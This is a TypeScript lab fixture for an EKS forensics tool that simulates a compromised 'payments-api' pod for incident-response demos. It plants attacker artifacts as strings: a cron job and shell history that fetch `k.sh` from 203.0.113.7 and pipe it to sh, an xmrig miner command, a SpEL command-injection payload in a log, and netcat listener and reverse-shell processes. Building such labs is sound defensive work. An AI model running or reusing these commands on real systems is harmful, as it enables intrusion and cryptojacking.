/**
 * A local stand-in for "an AWS account with an EKS cluster running a compromised workload", used
 * by `npm run demo` and by every example's `--local` mode. Nothing here is needed against real
 * EKS: it only builds what the examples then reach through the public API (ClusterCatalog,
 * EksAuth, KubeClient, ArtifactCollector).
 *
 * - AWS: `FakeAws` (in-process EKS + STS) or a real `moto_server` when asked and installed.
 * - Kubernetes: `FakeCluster` accepting EKS tokens (`k8s-aws-v1.…`) from the lab's access key,
 *   mapped to the user `responder` in the group `cado` with the RBAC that `clusterRoleYaml()` grants.
 * - Containers: the `sandbox` runtime (real processes in their own PID/mount/net namespaces, needs
 *   root + bwrap + busybox-static + nsenter) or, when the machine cannot run it, an `emulated`
 *   workload: the same scenario as a canned tree (planted files and a canned /proc, see
 *   lab-emulation.ts) that the collector reads through the target's `fs` view. Never this
 *   machine's own processes.
 *
 * In your own project import from 'eks-forensics' and 'eks-forensics/testing'.
 */
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { CreateClusterCommand, EKSClient } from '@aws-sdk/client-eks';
import { SandboxUnavailableError } from '../src/entries/errors.js';
import type { ClusterCatalogOptions, ConnectOptions } from '../src/index.js';
import {
  createSandboxRuntime,
  FakeAws,
  FakeCluster,
  type FakeContainerSpec,
  type FakeRbacRule,
  type MotoServer,
  motoServerMissing,
  type SandboxFileMap,
  type SandboxProcessSpec,
  startMotoServer,
} from '../src/testing/index.js';
import { writeEmulatedProc } from './lab-emulation.js';

/** Where the lab's AWS APIs come from. */
export type LabAws = 'fake' | 'moto' | 'auto';
/**
 * Which runtime runs the workload: `sandbox` (real isolated processes), `emulated` (a canned tree,
 * for machines without the sandbox; `host` is an older name of it) or `auto` (sandbox when possible).
 */
export type LabRuntime = 'auto' | 'sandbox' | 'emulated' | 'host';

/** Options of {@link startLab}. */
export interface LabOptions {
  /** `fake` (default): in-process FakeAws. `moto`: a real moto_server. `auto`: moto when installed. */
  aws?: LabAws | undefined;
  /** `auto` (default): sandbox when the machine allows it, else the emulated workload. */
  runtime?: LabRuntime | undefined;
  /** Progress messages (one line each). */
  onStep?: ((message: string) => void) | undefined;
}

/** A running lab. Always `await lab.close()`. */
export interface Lab {
  /** `sandbox`: real processes; `emulated`: a canned tree standing in for the workload. */
  runtime: 'sandbox' | 'emulated';
  /** One line saying what that runtime means for the evidence. */
  runtimeNote: string;
  /** `FakeAws` or `moto_server`. */
  awsBackend: string;
  /** Region of the lab cluster. */
  region: string;
  /** EKS cluster name. */
  clusterName: string;
  /** Static fake credentials of the responder (what `fromIni()` would give you for real). */
  credentials: { accessKeyId: string; secretAccessKey: string };
  /** ClusterCatalog options pointing at the lab's AWS endpoints. */
  catalogOptions: ClusterCatalogOptions;
  /** What `catalog.connect(cluster, …)` needs to reach the FakeCluster instead of the (made-up) EKS endpoint. */
  connect: ConnectOptions;
  /** The FakeCluster (for downstream tests and assertions). */
  cluster: FakeCluster;
  /** The AWS endpoint (for S3 clients in --local mode). */
  awsEndpoint: string;
  /** File-system view of a target container (emulated: its canned root and /proc), else `undefined`. */
  fsFor(container: string): { root: string; procBase: string } | undefined;
  /** Stops everything the lab started. Idempotent. */
  close(): Promise<void>;
}

/** Namespace of the lab workload. */
export const LAB_NAMESPACE = 'shop';
/** The compromised pod. */
export const LAB_COMPROMISED_POD = 'payments-api-7f9c6d5b8-x2x4q';
/** The pod that is (probably) fine. */
export const LAB_CLEAN_POD = 'cart-6d4b7c9f5-k8p2m';

const REGION = 'us-east-1';
const CLUSTER = 'prod-payments';
const ACCOUNT = '123456789012';
const CREDS = { accessKeyId: 'AKIAIOSFODNN7EXAMPLE', secretAccessKey: 'lab-secret-not-real' };
const NODE = 'ip-10-0-1-23.ec2.internal';

/** What `clusterRoleYaml()` grants to the group `cado`, as FakeCluster rules. */
const CADO_RULES: FakeRbacRule[] = [
  { verbs: ['get', 'list'], resources: ['pods'] },
  { verbs: ['get', 'create'], resources: ['pods/exec'] },
  { verbs: ['get'], resources: ['pods/log'] },
  { verbs: ['list'], resources: ['events'] },
  { verbs: ['get'], resources: ['nodes'] },
  // identityReaderClusterRoleYaml(): what the pod-state identity context reads
  { verbs: ['get'], resources: ['serviceaccounts', 'roles', 'clusterroles'] },
  { verbs: ['list'], resources: ['rolebindings', 'clusterrolebindings', 'networkpolicies'] },
  { verbs: ['get', 'list'], resources: ['replicasets'] },
  { verbs: ['get'], resources: ['deployments', 'statefulsets', 'daemonsets', 'jobs', 'cronjobs'] },
];

const AUTHORIZED_KEYS =
  'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3Jm5yZW5zaWNzLWRlbW8ta2V5LW5vdC1yZWFs root@kinsing\n';
const PRELOAD = '/usr/local/lib/libsystemd-helper.so\n';
const CRON =
  '*/10 * * * * (curl -fsSL http://203.0.113.7/k.sh || wget -q -O- http://203.0.113.7/k.sh) | sh\n';
const HISTORY =
  'id\ncurl -fsSL http://203.0.113.7/k.sh -o /tmp/.x/k.sh\nchmod +x /tmp/.x/xmrig\n/tmp/.x/xmrig --url stratum+tcp://pool.example.invalid:3333 &\n';
const APP_LOG = [
  '2026-11-22T21:58:01Z INFO  payments-api started on :8080',
  '2026-11-22T22:03:17Z WARN  POST /actuator/gateway/routes from 203.0.113.7 (unauthenticated)',
  '2026-11-22T22:03:18Z ERROR SpEL evaluation: T(java.lang.Runtime).getRuntime().exec("sh -c curl http://203.0.113.7/k.sh|sh")',
  '2026-11-22T22:03:21Z INFO  GET /health 200',
].join('\n');

/** Files planted in the compromised container (also readable by downstream tests). */
export const LAB_PLANTED: Record<string, string> = {
  '/root/.ssh/authorized_keys': AUTHORIZED_KEYS,
  '/etc/ld.so.preload': PRELOAD,
  '/etc/crontabs/root': CRON,
  '/root/.ash_history': HISTORY,
  '/tmp/.x/config.json': '{"pools":[{"url":"stratum+tcp://pool.example.invalid:3333"}]}\n',
  '/etc/shadow': 'root:$6$demo$bm90LWEtcmVhbC1oYXNoLWp1c3QtYS1kZW1v:19000:0:99999:7:::\n',
  '/var/log/app/app.log': `${APP_LOG}\n`,
};

function sandboxFiles(): SandboxFileMap {
  const files: SandboxFileMap = {};
  for (const [path, content] of Object.entries(LAB_PLANTED)) {
    files[path] = { content, ...(path.includes('.ssh') || path.endsWith('shadow') ? { mode: 0o600 } : {}) };
  }
  files['/var/log/nginx/access.log'] = { type: 'symlink', target: '/dev/stdout' };
  return files;
}

function sandboxProcesses(): SandboxProcessSpec[] {
  return [
    // the miner, running from a binary it deleted
    {
      argv: ['/tmp/.x/xmrig', '--url', 'stratum+tcp://pool.example.invalid:3333', '--donate-level', '1'],
      binary: 'sleeper',
      deleteAfterStart: true,
    },
    // the C2 end: the sandbox has no network, so it listens inside it on 127.0.0.1:4444
    {
      argv: ['/usr/lib/.c2/sh', '-c', 'while :; do sleep 3600; done | nc -l -p 4444'],
      binary: 'busybox',
      deleteAfterStart: true,
    },
    // a reverse shell from a deleted binary, connected to it
    {
      argv: ['/var/tmp/.rs/sh', '-c', 'while :; do sleep 3600; done | nc 127.0.0.1 4444'],
      binary: 'busybox',
      deleteAfterStart: true,
    },
    // a process with LD_PRELOAD and a secret in its environment (values are hashed, not stored)
    {
      argv: ['/tmp/.cache/kworker', '-s'],
      binary: 'sleeper',
      env: {
        PATH: '/usr/bin:/bin',
        LD_PRELOAD: PRELOAD.trim(),
        AWS_SECRET_ACCESS_KEY: 'EXAMPLEKEYwJalrXUtnFEMI/K7MDENG/bPxRfiCY',
      },
    },
  ];
}

/** Writes the planted files under `root` (host runtime). */
async function plantFiles(root: string, files: Record<string, string>): Promise<void> {
  for (const [path, content] of Object.entries(files)) {
    const p = join(root, path);
    await mkdir(dirname(p), { recursive: true });
    await writeFile(p, content, { mode: path.includes('.ssh') || path.endsWith('shadow') ? 0o600 : 0o644 });
  }
  await mkdir(join(root, 'var/log/nginx'), { recursive: true });
  await symlink('/dev/stdout', join(root, 'var/log/nginx/access.log')).catch(() => undefined);
}

/** Waits (bounded) until the reverse shell of the sandbox workload has connected to its C2. */
async function waitForConnection(cluster: FakeCluster): Promise<void> {
  const c = cluster.runtimeContainer(LAB_NAMESPACE, LAB_COMPROMISED_POD, 'app');
  if (!c) return;
  const deadline = Date.now() + 5000;
  while (Date.now() < deadline) {
    const p = c.exec({
      command: ['cat', '/proc/net/tcp'],
      stdin: false,
      tty: false,
      signal: AbortSignal.timeout(2000),
    });
    let out = '';
    p.stdout.on('data', (d: Buffer) => {
      if (out.length < 65536) out += d.toString('utf8');
    });
    p.stderr.resume();
    await p.result.catch(() => undefined);
    if (/^\s*\d+: \S+ 0100007F:115C 01 /m.test(out)) return;
    await new Promise((r) => setTimeout(r, 50));
  }
}

async function seedMoto(endpoint: string): Promise<void> {
  const eks = new EKSClient({ region: REGION, endpoint, credentials: CREDS, maxAttempts: 1 });
  try {
    await eks.send(
      new CreateClusterCommand({
        name: CLUSTER,
        version: '1.33',
        roleArn: `arn:aws:iam::${ACCOUNT}:role/eks-cluster`,
        resourcesVpcConfig: { subnetIds: ['subnet-0a1b2c3d'], endpointPublicAccess: true },
        tags: { env: 'prod', team: 'payments' },
      }),
    );
  } finally {
    eks.destroy();
  }
}

/**
 * Starts the lab: AWS endpoints with one EKS cluster, a FakeCluster behind it with the `shop`
 * namespace (a compromised `payments-api` pod and a `cart` pod), a node, events and a hidden
 * `kube-system` pod.
 *
 * @throws SandboxUnavailableError when `runtime: 'sandbox'` was asked and the machine cannot run it.
 */
export async function startLab(options: LabOptions = {}): Promise<Lab> {
  const step = options.onStep ?? (() => undefined);
  const closers: Array<() => Promise<unknown>> = [];
  const close = async () => {
    while (closers.length)
      await closers
        .pop()?.()
        .catch(() => undefined);
  };
  try {
    // 1. container runtime
    let runtime: 'sandbox' | 'emulated' = 'emulated';
    let runtimeNote = '';
    const runtimes: Record<string, Awaited<ReturnType<typeof createSandboxRuntime>>> = {};
    const want = options.runtime ?? 'auto';
    const emulatedNote =
      'EMULATED workload: canned files and /proc standing in for the compromised container (same scenario as the sandbox); no process or connection of this machine is in the evidence';
    if (want === 'auto' || want === 'sandbox') {
      try {
        runtimes.sandbox = await createSandboxRuntime();
        runtime = 'sandbox';
        runtimeNote =
          'sandbox runtime: real processes in their own PID/mount/network namespaces (bwrap + busybox)';
      } catch (err) {
        if (want === 'sandbox' || !(err instanceof SandboxUnavailableError)) throw err;
        runtimeNote = `${emulatedNote} (the sandbox cannot run here: ${err.message.split('.')[0]})`;
      }
    } else {
      runtimeNote = emulatedNote;
    }
    step(runtimeNote);

    // 2. the EKS cluster behind it
    const cluster = await FakeCluster.start({
      name: CLUSTER,
      runtimes,
      groupRules: { cado: CADO_RULES },
      eks: {
        clusterName: CLUSTER,
        principals: [
          {
            accessKeyId: CREDS.accessKeyId,
            arn: `arn:aws:iam::${ACCOUNT}:user/responder`,
            username: 'responder',
            groups: ['cado'],
          },
        ],
      },
    });
    closers.push(() => cluster.close());
    step(`FakeCluster ${CLUSTER} at ${cluster.server} (accepts EKS tokens of ${CREDS.accessKeyId})`);

    // 3. the AWS account
    let awsBackend: string;
    let awsEndpoint: string;
    const aws = options.aws ?? 'fake';
    const useMoto = aws === 'moto' || (aws === 'auto' && motoServerMissing() === undefined);
    if (useMoto) {
      const moto: MotoServer = await startMotoServer();
      closers.push(() => moto.close());
      await seedMoto(moto.endpoint);
      awsBackend = 'moto_server';
      awsEndpoint = moto.endpoint;
    } else {
      const fake = await FakeAws.start({
        principals: [{ accessKeyId: CREDS.accessKeyId, arn: `arn:aws:iam::${ACCOUNT}:user/responder` }],
        clusters: [
          {
            name: CLUSTER,
            region: REGION,
            account: ACCOUNT,
            version: '1.33',
            authenticationMode: 'API_AND_CONFIG_MAP',
            logging: ['api', 'audit', 'authenticator'],
            tags: { env: 'prod', team: 'payments' },
          },
        ],
      });
      closers.push(() => fake.close());
      awsBackend = 'FakeAws';
      awsEndpoint = fake.endpoint;
    }
    step(`${awsBackend} (EKS + STS) at ${awsEndpoint} with cluster ${CLUSTER} in ${REGION}`);

    // 4. the workload
    const planted = new Map<string, string>();
    if (runtime === 'emulated') {
      const hostRoot = await mkdtemp(join(tmpdir(), 'eksf-lab-emulated-'));
      closers.push(() => rm(hostRoot, { recursive: true, force: true }));
      const app = join(hostRoot, 'app');
      const cart = join(hostRoot, 'cart');
      await plantFiles(app, LAB_PLANTED);
      await plantFiles(cart, { '/etc/motd': 'cart service\n' });
      await writeEmulatedProc(join(app, 'proc'), LAB_COMPROMISED_POD, true);
      await writeEmulatedProc(join(cart, 'proc'), LAB_CLEAN_POD, false);
      planted.set('app', app);
      planted.set('cart', cart);
    }
    const container = (name: string, image: string, sandbox: object, logs: string): FakeContainerSpec => ({
      name,
      image,
      imageID: `${image.split(':')[0]}@sha256:${Buffer.from(name).toString('hex').padEnd(64, '0').slice(0, 64)}`,
      runtime: runtime === 'sandbox' ? 'sandbox' : 'host',
      options: runtime === 'sandbox' ? sandbox : { cwd: planted.get(name) ?? tmpdir() },
      command: ['sleep', '86400'],
      env: { JAVA_OPTS: '-Xmx512m', SPRING_PROFILES_ACTIVE: 'prod' },
      logs: { current: logs, previous: 'panic: OOMKilled after 3h\n' },
      restartCount: 1,
    });
    // Emulation is recorded where a reader of the bundle looks: the pod's own annotations (pod.json).
    const annotations =
      runtime === 'emulated'
        ? {
            annotations: {
              'lab.eks-forensics.dev/workload':
                'EMULATED: canned files and /proc standing in for the container (no sandbox on the acquiring machine)',
            },
          }
        : {};
    cluster.addNode({
      name: NODE,
      providerID: 'aws:///us-east-1a/i-0a1b2c3d4e5f60718',
      internalIP: '10.0.1.23',
    });
    const payments = await cluster.addPod({
      namespace: LAB_NAMESPACE,
      name: LAB_COMPROMISED_POD,
      nodeName: NODE,
      labels: { app: 'payments-api', 'pod-template-hash': '7f9c6d5b8' },
      ...annotations,
      ownerReferences: [
        {
          apiVersion: 'apps/v1',
          kind: 'ReplicaSet',
          name: 'payments-api-7f9c6d5b8',
          uid: '3b0c1a52-1f0e-4c5e-9c59-5a7d1c0e2f11',
          controller: true,
        },
      ],
      serviceAccountName: 'payments-api',
      containers: [
        container(
          'app',
          'registry.example.com/shop/payments-api:2.4.1',
          { preset: 'busybox', files: sandboxFiles(), processes: sandboxProcesses() },
          `${APP_LOG}\n`,
        ),
      ],
    });
    await cluster.addPod({
      namespace: LAB_NAMESPACE,
      name: LAB_CLEAN_POD,
      nodeName: NODE,
      labels: { app: 'cart' },
      ...annotations,
      containers: [
        container(
          'cart',
          'registry.example.com/shop/cart:1.9.0',
          { preset: 'busybox', files: { '/etc/motd': { content: 'cart service\n' } } },
          '2026-11-22T21:58:04Z INFO cart started\n',
        ),
      ],
    });
    await cluster.addPod({
      namespace: 'kube-system',
      name: 'coredns-5d78c9869d-abcde',
      nodeName: NODE,
      containers: [{ name: 'coredns', image: 'coredns/coredns:1.11.1', runtime: 'scripted' }],
    });
    const uid = String((payments.metadata as { uid?: string } | undefined)?.uid ?? '');
    cluster.addEvent({
      involvedObject: { kind: 'Pod', namespace: LAB_NAMESPACE, name: LAB_COMPROMISED_POD, uid },
      type: 'Warning',
      reason: 'OOMKilling',
      message: 'Memory cgroup out of memory: Killed process 4127 (xmrig)',
    });
    cluster.addEvent({
      involvedObject: { kind: 'Pod', namespace: LAB_NAMESPACE, name: LAB_COMPROMISED_POD, uid },
      reason: 'Started',
      message: 'Started container app',
    });
    if (runtime === 'sandbox') await waitForConnection(cluster);
    step(
      `workload: ${LAB_NAMESPACE}/${LAB_COMPROMISED_POD} (compromised), ${LAB_NAMESPACE}/${LAB_CLEAN_POD}`,
    );

    return {
      runtime,
      runtimeNote,
      awsBackend,
      awsEndpoint,
      region: REGION,
      clusterName: CLUSTER,
      credentials: { ...CREDS },
      catalogOptions: {
        regions: [REGION],
        credentials: CREDS,
        endpoints: { eks: awsEndpoint, sts: awsEndpoint },
        maxAttempts: 1,
      },
      connect: { endpoint: cluster.server, caData: cluster.caData },
      cluster,
      fsFor: (name) => {
        const root = planted.get(name);
        return root ? { root, procBase: join(root, 'proc') } : undefined;
      },
      close,
    };
  } catch (err) {
    await close();
    throw err;
  }
}
